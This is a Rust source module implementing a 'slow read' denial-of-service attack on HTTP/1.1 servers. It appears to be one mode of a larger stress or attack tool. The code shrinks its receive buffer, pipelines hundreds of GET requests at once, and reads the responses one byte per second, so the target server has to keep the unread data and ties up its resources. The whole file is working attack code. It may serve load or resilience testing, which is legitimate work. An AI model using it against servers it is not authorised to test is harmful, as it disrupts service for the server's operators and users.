//! Slow read: very many responses are requested, and hardly read.

use std::time::Duration;

use super::door::Speaks;
use super::ground::Ground;

/// From one byte that is read to the next.
const INTERVAL: Duration = Duration::from_secs(1);

/// The receive buffer of the kernel, small so that the server has to keep the rest.
const RECEIVE_BUFFER: u32 = 2_048;

/// Requests that are sent in one go, and as long as the server takes them.
const PIPELINED: u32 = 500;

pub(super) async fn attack(ground: &Ground<'_>) {
    let Some(mut stream) = ground.open(Speaks::Http1, Some(RECEIVE_BUFFER)).await else {
        return;
    };
    let endpoint = ground.door.endpoint();
    let request = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
        endpoint.path_and_query(),
        endpoint.authority()
    );
    let mut byte = [0];
    while let Some(requests) = ground.leave(PIPELINED).await {
        let pipelined = request.repeat(requests as usize);
        // A server that does not read on is slowed down, which is what it should be.
        let sending = ground.send(&mut stream, pipelined.as_bytes());
        match tokio::time::timeout(INTERVAL, sending).await {
            Ok(Ok(())) => ground.tally.sent(requests.into()),
            Ok(Err(_)) => return ground.tally.ended(),
            Err(_) => break,
        }
        if ground.read(&mut stream, &mut byte, INTERVAL).await == Some(0) {
            return ground.tally.ended();
        }
    }
    while ground.rest(INTERVAL).await {
        if ground.read(&mut stream, &mut byte, INTERVAL).await == Some(0) {
            return ground.tally.ended();
        }
    }
}
